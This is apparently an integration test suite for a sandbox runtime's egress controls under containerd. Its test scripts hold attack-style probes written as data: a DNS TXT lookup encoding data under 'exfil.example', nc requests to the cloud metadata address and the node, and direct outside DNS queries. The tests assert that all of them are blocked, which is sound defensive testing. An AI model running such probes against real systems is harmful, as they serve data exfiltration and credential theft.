//! Egress through containerd and the shim, on the fake internet:
//! a compiled skill whose policy allows egress gets its own network
//! namespace behind its own nftables table and DNS proxy, exactly as
//! `skillbox run` gives it (tests/egress_run.rs), and nothing of it is left
//! after the task is deleted — also when the shim was SIGKILLed.
//!
//! The outer side of the sandbox's network is the namespace the spec asks
//! for: a new one (`ctr run`) means the shim's own, so containerd runs in
//! the fake node namespace; a path means the pod's (CRI), so the second
//! test names the fake node namespace in the spec while containerd runs in
//! the caller's.

use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use nix::sys::signal::{kill, Signal};
use nix::unistd::Pid;
use skillbox_egress::netns::{Forwarding, NetnsName, SystemRunner};

mod common;

use common::containerd::*;
use skillbox_test_support::events::connection_events;
use skillbox_test_support::fake_internet::{netns_list, FakeInternet, DNS_SERVER, NODE_ADDRESS, NODE_UPLINK};
use skillbox_test_support::must;

/// Shell functions the probes use; each result is one line.
const FETCH: &str = "fetch() { printf \"GET / HTTP/1.0\\r\\n\\r\\n\" | nc -w 3 \"$1\" \"$2\" 2>/dev/null | tail -1 | grep -q fake-internet && echo \"$3: reached\" || echo \"$3: refused\"; }; \
resolve() { nslookup \"$1\" 2>/dev/null | awk \"/^Address: (203|198)/ {print \\$2}\"; }; ";

fn policy(allow: &str, script: &str) -> String {
    let escaped = format!("exec 2>&1; {FETCH}{script}").replace('\'', "''");
    format!(
        "  entrypoint: [sh, -c, '{escaped}']\n  \
         resources: {{ cpus: 0.5, memory: 128Mi, pids: 16, timeout: 90s }}\n  \
         network:\n    allow:\n{allow}"
    )
}

/// The fake internet, the node forwarding from its uplink, and the node
/// config telling the shim where the proxy's upstream is and where the
/// events go.
struct Setup {
    fake: FakeInternet,
    _uplink: Forwarding,
    work: tempfile::TempDir,
}

impl Setup {
    fn new(tag: &str) -> Setup {
        let fake = FakeInternet::start(tag);
        let node = NetnsName::new(&fake.node).unwrap();
        let uplink = Forwarding::enable(Box::new(SystemRunner), Some(node), NODE_UPLINK).unwrap();
        let work = tempfile::tempdir().unwrap();
        Setup {
            fake,
            _uplink: uplink,
            work,
        }
    }

    fn node_toml(&self) -> String {
        format!(
            "[egress]\ndns_upstreams = [\"{DNS_SERVER}\"]\n[audit]\nlog_dir = {:?}\n",
            self.events_dir().display().to_string()
        )
    }

    fn events_dir(&self) -> PathBuf {
        self.work.path().join("egress")
    }

    fn events(&self, namespace: &str, id: &str) -> String {
        std::fs::read_to_string(self.events_dir().join(namespace).join(format!("{id}.jsonl")))
            .unwrap_or_default()
    }

    /// Sandbox namespaces of containerd namespace `namespace`, and veths
    /// and skillbox tables, left in the node.
    fn leftovers(&self, namespace: &str) -> Vec<String> {
        let mut left: Vec<String> = netns_list()
            .into_iter()
            .filter(|name| name.starts_with(&format!("skillbox-{namespace}.")))
            .collect();
        let links = must(&["ip", "-n", &self.fake.node, "-o", "link"]);
        left.extend(
            links
                .lines()
                .filter(|line| line.contains("sbxv"))
                .map(str::to_owned),
        );
        let tables = must(&["ip", "netns", "exec", &self.fake.node, "nft", "list", "tables"]);
        left.extend(
            tables
                .lines()
                .filter(|line| line.contains("skillbox"))
                .map(str::to_owned),
        );
        left
    }

    fn assert_nothing_left(&self, namespace: &str, bundle_dir: &Path) {
        let deadline = Instant::now() + Duration::from_secs(10);
        loop {
            let mut left = self.leftovers(namespace);
            let record = bundle_dir.join("skillbox-egress.json");
            if record.exists() {
                left.push(record.display().to_string());
            }
            // The audit monitor's socket and session file.
            let audit_files = std::fs::read_dir("/run/skillbox/audit")
                .into_iter()
                .flatten()
                .flatten();
            left.extend(
                audit_files
                    .map(|entry| entry.file_name().to_string_lossy().into_owned())
                    .filter(|name| name.starts_with(&format!("{namespace}."))),
            );
            if left.is_empty() {
                return;
            }
            assert!(Instant::now() < deadline, "egress left behind: {left:?}");
            std::thread::sleep(Duration::from_millis(100));
        }
    }
}

/// Waits until the file log `log` has a line `ready`; returns the log.
fn wait_ready(log: &Path) -> String {
    let deadline = Instant::now() + Duration::from_secs(60);
    loop {
        let logged = std::fs::read_to_string(log).unwrap_or_default();
        if logged.lines().any(|line| line == "ready") {
            return logged;
        }
        assert!(
            Instant::now() < deadline,
            "no `ready` in {}: {logged}",
            log.display()
        );
        std::thread::sleep(Duration::from_millis(100));
    }
}

fn assert_lines(output: &str, lines: &[&str]) {
    for line in lines {
        assert!(output.contains(line), "missing {line:?} in:\n{output}");
    }
}

#[test]
fn containerd_runs_each_skill_with_exactly_its_own_egress() {
    let mut setup = Setup::new("shim");
    let containerd = Containerd::start_with(Some(&setup.fake.node_path()), &setup.node_toml());
    let namespace = "skillbox-test-egress";
    let work = setup.work.path();

    // Servers where the policy must not let A in: without the always-deny
    // ranges and the node rules, `0.0.0.0/0` port 80 would reach the
    // metadata service and the node's address would answer.
    setup.fake.serve_http_in_internet("169.254.169.254", 80);
    setup.fake.serve_http_on_node(NODE_ADDRESS, 8080);
    setup.fake.start_udp_listener("198.51.100.20", 5353);

    // A resolves allowed.example and holds it while B runs.
    let a = compile_skill_md(
        work,
        "egr-a",
        &policy(
            "      - { domain: allowed.example, ports: [8080] }\n      \
             - { cidr: 203.0.113.0/24, ports: [8080] }\n      \
             - { cidr: 0.0.0.0/0, ports: [80] }\n    \
             deny:\n      - { cidr: 203.0.113.11/32 }\n",
            "addr=$(resolve allowed.example); echo \"allowed.example resolves to $addr\"; \
             fetch \"$addr\" 8080 \"allowed name\"; \
             fetch 203.0.113.11 8080 \"denied address inside the allowed cidr\"; \
             fetch 198.51.100.20 8080 \"address no allowed name resolved to\"; \
             fetch 169.254.169.254 80 \"cloud metadata\"; \
             fetch 198.18.0.2 8080 \"the node's own address\"; \
             fetch 2001:db8::10 8080 \"ipv6\"; \
             nslookup other.example >/dev/null 2>&1 && echo \"other.example: resolved\" || echo \"other.example: not resolved\"; \
             nslookup -type=TXT k9q2x7f3.exfil.example >/dev/null 2>&1 && echo \"exfil: resolved\" || echo \"exfil: not resolved\"; \
             timeout 5 nslookup allowed.example 198.51.100.53 >/dev/null 2>&1 && echo \"direct dns: answered\" || echo \"direct dns: blocked\"; \
             timeout 5 nslookup -port=5353 udp-probe.example 198.51.100.20 >/dev/null 2>&1; \
             echo ready; sleep 60",
        ),
    );
    let log_a = work.join("a.log");
    let uri = format!("file://{}", log_a.display());
    let out = containerd.run_bundle(
        namespace,
        &a.join("config.json"),
        "egr-a",
        &["-d", "--log-uri", &uri],
    );
    assert!(
        out.status.success(),
        "ctr run egr-a: {}\n{}",
        text(&out.stderr),
        containerd.log()
    );
    let output_a = wait_ready(&log_a);
    eprintln!("egr-a said:\n{output_a}");
    assert_lines(
        &output_a,
        &[
            "allowed.example resolves to 203.0.113.10",
            "allowed name: reached",
            "denied address inside the allowed cidr: refused",
            "address no allowed name resolved to: refused",
            "cloud metadata: refused",
            "the node's own address: refused",
            "ipv6: refused",
            "other.example: not resolved",
            "exfil: not resolved",
            "direct dns: blocked",
        ],
    );
    for address in [
        "203.0.113.11",
        "198.51.100.20",
        "169.254.169.254",
        NODE_ADDRESS,
        "2001:db8::10",
    ] {
        let log = setup.fake.http_log(address);
        assert!(!log.contains("GET /"), "{address} was reached:\n{log}");
    }
    let udp = setup.fake.udp_log("198.51.100.20", 5353);
    assert!(
        !udp.contains("udp-probe"),
        "a UDP datagram left the sandbox:\n{udp}"
    );

    // Upstream saw only A's allowed name, asked from the node (the proxy).
    let asked = setup.fake.dns_log();
    assert!(
        asked.contains(&format!("query[A] allowed.example from {NODE_ADDRESS}")),
        "{asked}"
    );
    assert!(
        !asked.contains("other.example"),
        "a refused name reached upstream:\n{asked}"
    );

    // B may reach other.example only: A's learned address stays closed to it.
    let b = compile_skill_md(
        work,
        "egr-b",
        &policy(
            "      - { domain: other.example, ports: [8080] }\n",
            "addr=$(resolve other.example); echo \"other.example resolves to $addr\"; \
             fetch \"$addr\" 8080 \"its own name\"; \
             fetch 203.0.113.10 8080 \"the address the other skill resolved\"",
        ),
    );
    let out = containerd.run_bundle(namespace, &b.join("config.json"), "egr-b", &["--rm"]);
    let output_b = text(&out.stdout);
    eprintln!("egr-b said:\n{output_b}");
    assert!(
        out.status.success(),
        "ctr run egr-b: {output_b}{}\n{}",
        text(&out.stderr),
        containerd.log()
    );
    assert_lines(
        &output_b,
        &[
            "other.example resolves to 198.51.100.20",
            "its own name: reached",
            "the address the other skill resolved: refused",
        ],
    );

    kill_and_remove(&containerd, namespace, "egr-a");
    assert_no_leftovers(&containerd, namespace, "egr-a", "/skillbox-test-egr-a");
    assert_no_leftovers(&containerd, namespace, "egr-b", "/skillbox-test-egr-b");
    setup.assert_nothing_left(namespace, &containerd.bundle_dir(namespace, "egr-a"));
    // The sessions are gone: every event is written.
    let events_a = setup.events(namespace, "egr-a");
    assert!(events_a.contains("\"type\":\"dns_query\""), "{events_a}");
    assert!(
        events_a.contains("\"name\":\"other.example\"") && events_a.contains("\"verdict\":\"refused\""),
        "{events_a}"
    );
    for line in events_a.lines() {
        let event: serde_json::Value = serde_json::from_str(line).unwrap();
        assert_eq!(event["skill"]["name"], "egr-a", "{line}");
        assert_eq!(event["execution_id"], format!("{namespace}/egr-a"), "{line}");
        assert_eq!(event["container_id"], "egr-a", "{line}");
    }
    // The audit trail of the container: lifecycle from the shim, the
    // skill's processes from gVisor, in one file with the egress events.
    let types: Vec<String> = events_a
        .lines()
        .map(|line| {
            serde_json::from_str::<serde_json::Value>(line).unwrap()["type"]
                .as_str()
                .unwrap()
                .to_owned()
        })
        .collect();
    assert_eq!(types.first().map(String::as_str), Some("start"), "{events_a}");
    assert_eq!(types.last().map(String::as_str), Some("exit"), "{events_a}");
    assert!(events_a.contains("\"runtime\":\"shim\""), "{events_a}");
    for kind in ["container_start", "exec", "connect"] {
        assert!(types.iter().any(|t| t == kind), "no {kind} event:\n{events_a}");
    }
    let connections = connection_events(&events_a);
    for expected in [
        // allowed.example's address is in the allowed CIDR too, whose rule
        // comes first in the table.
        "203.0.113.10 8080 tcp allowed allow: cidr 203.0.113.0/24 ports 8080",
        "203.0.113.11 8080 tcp denied deny: cidr 203.0.113.11/32 (all ports)",
        "198.51.100.20 8080 tcp denied default-deny",
        "169.254.169.254 80 tcp denied always-deny: cidr 169.254.0.0/16",
        "198.18.0.2 8080 tcp denied node: the node is unreachable",
    ] {
        assert!(
            connections.iter().any(|c| c == expected),
            "{expected:?} missing:\n{events_a}"
        );
    }
    let connections_b = connection_events(&setup.events(namespace, "egr-b"));
    for expected in [
        "198.51.100.20 8080 tcp allowed allow: domain other.example ports 8080",
        "203.0.113.10 8080 tcp denied default-deny",
    ] {
        assert!(
            connections_b.iter().any(|c| c == expected),
            "{expected:?} missing: {connections_b:?}"
        );
    }
}

#[test]
fn a_pods_namespace_is_the_outer_side_and_a_killed_shims_network_is_removed() {
    let setup = Setup::new("pod");
    // containerd runs here; the spec names the "pod" namespace (the fake node).
    let containerd = Containerd::start_with(None, &setup.node_toml());
    let namespace = "skillbox-test-egress-pod";
    let id = "egr-pod";
    let work = setup.work.path();
    let bundle = compile_skill_md(
        work,
        id,
        &policy(
            "      - { domain: allowed.example, ports: [8080] }\n",
            "addr=$(resolve allowed.example); fetch \"$addr\" 8080 \"allowed name\"; echo ready; sleep 60",
        ),
    );
    let config = bundle.join("config.json");
    let mut spec: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&config).unwrap()).unwrap();
    for entry in spec["linux"]["namespaces"].as_array_mut().unwrap() {
        if entry["type"] == "network" {
            entry["path"] = setup.fake.node_path().display().to_string().into();
        }
    }
    std::fs::write(&config, spec.to_string()).unwrap();
    let log = work.join("pod.log");
    let uri = format!("file://{}", log.display());
    let out = containerd.run_bundle(namespace, &config, id, &["-d", "--log-uri", &uri]);
    assert!(
        out.status.success(),
        "ctr run {id}: {}\n{}",
        text(&out.stderr),
        containerd.log()
    );
    assert_lines(&wait_ready(&log), &["allowed name: reached"]);
    let sandbox_netns = format!("skillbox-{namespace}.{id}");
    assert!(netns_list().contains(&sandbox_netns), "{:?}", netns_list());
    let made = setup.leftovers(namespace);
    assert!(
        made.iter().any(|line| line.contains("sbxv"))
            && made.iter().any(|line| line.contains("table inet skillbox-")),
        "the veth and the table live in the pod's namespace: {made:?}"
    );

    // The shim dies with the session in it: the `delete` subcommand
    // containerd runs removes the network from the bundle's record.
    let shim = shim_pid(namespace, id).expect("the task's shim runs");
    kill(Pid::from_raw(shim), Signal::SIGKILL).unwrap();
    let deadline = Instant::now() + Duration::from_secs(20);
    while task_status(&containerd, namespace, id) == "RUNNING" {
        assert!(
            Instant::now() < deadline,
            "containerd never noticed the dead shim"
        );
        std::thread::sleep(Duration::from_millis(100));
    }
    for args in [["tasks", "delete", id], ["containers", "delete", id]] {
        let _ = containerd.ctr(namespace, &args);
    }
    assert_no_leftovers(&containerd, namespace, id, &format!("/skillbox-test-{id}"));
    setup.assert_nothing_left(namespace, &containerd.bundle_dir(namespace, id));
}
